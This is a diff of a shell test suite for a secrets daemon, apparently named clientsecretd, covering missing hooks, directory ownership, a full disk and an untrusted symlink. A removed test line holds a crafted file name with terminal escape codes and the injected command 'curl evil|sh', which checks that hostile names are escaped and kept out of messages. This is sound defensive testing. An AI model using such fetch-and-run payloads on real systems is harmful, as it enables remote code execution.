@@ -50,7 +50,9 @@ put_hook() {
     printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
     chmod 755 /usr/local/bin/after-rotation
 }
-helps "a missing hook" action_not_started put_hook
+put_hook
+promise "once it is there, it can be run at once" clientsecretd renew --deliver-only
+well "a missing hook"
 
 # An output in an application's directory without as:.
 mkdir /srv/app
@@ -59,9 +61,10 @@ output=/srv/app/web.jwt configure_web
 clientsecretd reload >/dev/null 2>&1
 eventually "an application's directory is told" failing unguarded_directory
 contains "an application's directory wants as:" 'write "as: app"' "$(failure remedy)"
-command=$(failure command)
+equal "an application's directory is given to nobody by a command" "" "$(failure command)"
 sed -i 's|mode: "0644"|as: app|' $configuration
-promise "an application's directory: the command can be done ($command)" sh -c "$command"
+systemctl enable --now clientsecretd-writer@app.socket 2>/dev/null
+clientsecretd reload >/dev/null 2>&1
 well "an application's directory"
 equal "and stays the application's" "app app" "$(stat -c %U /srv/app /srv/app/web.jwt | paste -sd' ')"
 
@@ -123,7 +126,7 @@ dd if=/dev/zero of=/var/lib/clientsecretd/filler bs=1k 2>/dev/null
 clientsecretd renew >/dev/null 2>&1
 eventually "a full disk of the state directory is told" failing state_unusable
 contains "it is called full" "the disk is full" "$(failure message)"
-contains "and the command shows it" "100% /var/lib/clientsecretd" "$(sh -c "$(failure command)")"
+contains "and what shows it is named" "(df -h /var/lib/clientsecretd)" "$(failure remedy)"
 rm /var/lib/clientsecretd/filler
 well "a full disk of the state directory"
 
@@ -137,9 +140,9 @@ runuser -u stranger -- mkdir "$evil"
 runuser -u stranger -- ln -s "$evil/foo" /srv/open/web.jwt
 output=/srv/open/web.jwt configure_web
 clientsecretd reload >/tmp/said 2>&1
-eventually "a stranger's link is told" failing unguarded_directory
-contains "by its name, which is quoted and escaped" "'/srv/open/\\x1b[2J\\u{202e}EVIL; run: curl evil|sh'" "$(failure message)"
-equal "no command of it is a remedy" "" "$(failure command)"
+eventually "a stranger's link is told" failing untrusted_link
+equal "and nothing that it leads to is" "" "$(failure message | grep -F EVIL)"
+equal "the remedy is to remove it" "test -L /srv/open/web.jwt && rm /srv/open/web.jwt" "$(failure command)"
 { clientsecretd status; clientsecretd health; clientsecretd check; systemctl status clientsecretd; } >>/tmp/said 2>&1
 clientsecretd status --json >>/tmp/said
 journalctl --quiet --no-pager --unit clientsecretd >>/tmp/said
